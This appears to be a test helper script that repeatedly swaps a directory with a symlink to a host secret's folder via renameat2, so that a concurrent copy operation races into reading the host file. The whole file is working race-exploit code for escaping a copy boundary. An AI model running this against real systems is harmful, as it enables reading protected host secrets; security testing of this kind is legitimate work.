# Not an attempt by itself: exchanges a directory and a link to the host's folder without pause, for a copy to race with.
import ctypes, os, sys, time
libc = ctypes.CDLL(None, use_errno=True)
RENAMEAT2, RENAME_EXCHANGE, AT_FDCWD = 316, 2, -100
os.makedirs("/tmp/race/folder", exist_ok=True)
open("/tmp/race/folder/secret", "w").write("harmless")
os.symlink(os.path.dirname(os.environ["SECRET_FILE"]), "/tmp/race/link")
print("flipping", flush=True)
end = time.monotonic() + float(os.environ["SECONDS"])
while time.monotonic() < end:
    for _ in range(1000):
        libc.syscall(RENAMEAT2, AT_FDCWD, b"/tmp/race/folder", AT_FDCWD, b"/tmp/race/link", RENAME_EXCHANGE)
